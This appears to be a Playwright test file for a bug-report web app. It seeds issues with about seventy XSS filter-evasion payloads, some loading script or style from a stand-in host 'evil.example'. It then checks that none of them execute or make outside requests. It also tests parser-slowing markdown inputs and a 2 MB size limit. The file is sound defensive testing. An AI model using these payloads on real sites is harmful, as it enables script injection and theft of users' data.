import { issuesContract } from '@coloa/contract/issues/issues.contract.ts';
import { LIMITS } from '@coloa/contract/limits.ts';
import { projectsContract } from '@coloa/contract/projects/projects.contract.ts';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { enterAsAdmin } from './page-helpers.ts';

// What the server refuses, the browser notes in its console too.
// No recording of what is drawn: ten thousand cells cost it more than the page itself.
test.use({ expectedConsole: [/Failed to load resource/], viewport: { width: 1440, height: 900 }, trace: 'off' });

const RUN = 'window.__ran=1';
const EVIL = 'https://evil.example';

/**
 * One of each kind of the OWASP XSS filter evasion cheat sheet, in our own words:
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
const EVASIONS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<SCRIPT>${RUN};//<</SCRIPT>`,
  `<script/x src="${EVIL}/x.js"></script>`,
  `<SCRIPT/SRC="${EVIL}/x.js"></SCRIPT>`,
  `</script><script>${RUN}</script>`,
  `</TITLE><SCRIPT>${RUN};</SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<IMG SRC="javascript:${RUN};">`,
  `<IMG SRC=JaVaScRiPt:${RUN}>`,
  `<IMG SRC="jav&#x09;ascript:${RUN};">`,
  `<IMG SRC="jav&#x0A;ascript:${RUN};">`,
  `<IMG SRC=" &#14; javascript:${RUN};">`,
  `<img src=/ onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__ran=1">`,
  `<img src onmouseover="${RUN}" autofocus onfocus="${RUN}" tabindex=1>`,
  `<IMG DYNSRC="javascript:${RUN}" LOWSRC="javascript:${RUN}">`,
  `<svg/onload="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><script xlink:href="data:,${RUN}"></script></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<BODY ONLOAD=${RUN}>`,
  `<body/onload=&lt;!--&gt;&#10${RUN}>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<INPUT TYPE="IMAGE" SRC="javascript:${RUN};">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<FRAMESET><FRAME SRC="javascript:${RUN};"></FRAMESET>`,
  `<object data="data:text/html,<script>parent.__ran=1</script>"></object>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX3Jhbj0xIj4=">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${RUN};">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=${EVIL}">`,
  `<BASE HREF="${EVIL}/">`,
  `<LINK REL="stylesheet" HREF="${EVIL}/x.css">`,
  `<STYLE>@import'${EVIL}/x.css';</STYLE>`,
  `<DIV STYLE="background-image: url(${EVIL}/x.png)">x</DIV>`,
  `<DIV STYLE="width: expression(${RUN});">x</DIV>`,
  `<TABLE BACKGROUND="javascript:${RUN}"><TD>x</TABLE>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<A HREF="//evil.example">x</A>`,
  `<!--[if gte IE 4]><SCRIPT>${RUN};</SCRIPT><![endif]-->`,
  `<? echo('<script>'); ?>${RUN}`,

  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](&#x6A;avascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x][mã]\n\n[mã]: javascript:${RUN}`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==)`,
  `[x](vbscript:${RUN})`,
  `<javascript:${RUN}>`,
  `![x](javascript:${RUN})`,
  `![x](${EVIL}/theo-doi.png)`,
  `![x](${EVIL}/theo-doi.png"onerror="${RUN})`,
  `![x" onerror="${RUN}](/attachments/khong-co.png)`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `\`\`\`http\nGET /"><script>${RUN}</script> HTTP/1.1\nHost: <img src=x onerror=${RUN}>\n\`\`\``,
  `⟦<script>${RUN}</script>⟧`,
  `| <script>${RUN}</script> | x |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  `- [ ] <script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} #{${RUN}} <%= ${RUN} %>`,
];

async function projectOf(page: Page, url: string, key: string) {
  const { call } = await enterAsAdmin(page, url);
  const { body } = await call(projectsContract.create, { body: { key, name: `"><script>${RUN}</script>`, kind: 'WEB' } });
  return { call, projectId: body.id };
}

test('what the evasion sheet tries is shown as text wherever a write-up is read, and nothing of it runs or asks anybody', async ({
  page,
  server,
}) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('dialog', (dialog) => void dialog.dismiss());
  const { call, projectId } = await projectOf(page, server.url, 'XSS');
  const all = EVASIONS.join('\n\n');
  const texts = { description: all, steps: all, impact: all, recommendation: all, references: all };
  const title = `<script>${RUN}</script> "><img src=x onerror=${RUN}>`;
  const tags = [`<img src=x onerror=${RUN}>`];
  const assets = [{ value: `javascript:${RUN}` }, { value: `"><script>${RUN}</script>` }];
  const created = await call(issuesContract.create, {
    body: { projectId, contents: { vi: { title, ...texts }, en: { title } }, tags, assets },
  });
  expect(created.status).toBe(200);

  const issue = `/#/projects/${projectId}/issues/${created.body.id}`;
  const harmless = async () => {
    // A frame or a picture would have run by the time this is drawn.
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => Reflect.get(window, '__ran'))).toBeUndefined();
    expect(
      await page.locator('a[href^="javascript" i], a[href^="data:" i], a[href^="vbscript" i], iframe, object, embed, base').count(),
    ).toBe(0);
    expect(asked.filter((url) => !url.startsWith(server.url))).toEqual([]);
  };
  await page.goto(issue);
  await expect(page.getByRole('heading', { name: title, level: 1 })).toBeVisible();
  await expect(page.getByText(RUN).first()).toBeVisible();
  await harmless();
  for (const link of await page.locator('article a[href], main a[href]').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(https?:|mailto:|#|\/)/);
  }
  await page.goto(`/#/projects/${projectId}/issues?peek=${created.body.id}`);
  await expect(page.getByRole('complementary').getByText(title).first()).toBeVisible();
  await harmless();
  await page.goto(`${issue}/edit`);
  await expect(page.locator('.cm-content').first()).toBeVisible();
  await harmless();
});

test('texts made to be slow can be read, as they were written where they are too much, and the page goes on working', async ({
  page,
  server,
}) => {
  const { call, projectId } = await projectOf(page, server.url, 'CHAM');
  const lists = Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- tầng ${depth}`).join('\n');
  const row = `|${' x |'.repeat(100)}`;
  const table = [row, `|${'---|'.repeat(100)}`, ...Array.from({ length: 100 }, () => row)].join('\n');
  const bombs = {
    description: lists,
    steps: table,
    impact: `${'a'.repeat(50_000)}!${'*_'.repeat(10_000)}`,
    recommendation: `${'> '.repeat(20_000)}x`,
    references: `${'['.repeat(20_000)}${'(('.repeat(10_000)}`,
  };
  // As long as they may be and still be parsed: nothing else of the page may put off drawing them, the time that counts seconds least of all.
  const items = Array.from({ length: 2_500 }, (_, at) => `- mục ${at}`).join('\n');
  const long = { description: items, steps: items, impact: items, recommendation: items, references: `${items}\n- mục cuối` };
  const { body, status } = await call(issuesContract.create, {
    body: { projectId, contents: { vi: { title: 'Chậm có chủ ý', ...bombs }, en: { title: 'Slow on purpose', ...long } } },
  });
  expect(status).toBe(200);
  await page.goto(`/#/projects/${projectId}/issues/${body.id}`);
  await expect(page.getByRole('heading', { name: 'Chậm có chủ ý', level: 1 })).toBeVisible();
  const { steps: _table, ...unparsed } = bombs;
  const read = () =>
    page.evaluate((texts) => {
      const main = document.querySelector('main');
      return {
        asWritten: texts.filter((text) => main?.textContent.includes(text)).length,
        cells: main?.querySelectorAll('td').length,
        items: [...(main?.querySelectorAll('li') ?? [])].filter((item) => item.textContent.startsWith('mục ')).length,
      };
    }, Object.values(unparsed));
  await expect.poll(read, { timeout: 40_000 }).toEqual({ asWritten: 4, cells: 10_000, items: 12_501 });
  await page.getByRole('link', { name: 'Tổng quan' }).first().click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Tổng quan');
});

test('a text of two megabytes is refused with its place, and nothing of it is stored', async ({ page, server }) => {
  const { call, projectId } = await projectOf(page, server.url, 'DAI');
  const contents = { vi: { title: 'Dài', description: 'a'.repeat(2 * 1024 * 1024) } };
  const refused = await call(issuesContract.create, { body: { projectId, contents } });
  expect(refused.status).toBe(400);
  expect(refused.errors).toMatchObject([{ code: 'FIELD_TOO_LONG', path: 'contents.vi.description' }]);
  expect(refused.errors[0]?.message).toContain(String(LIMITS.markdown));
  expect((await call(issuesContract.list, { query: { projectId } })).body.total).toBe(0);
});
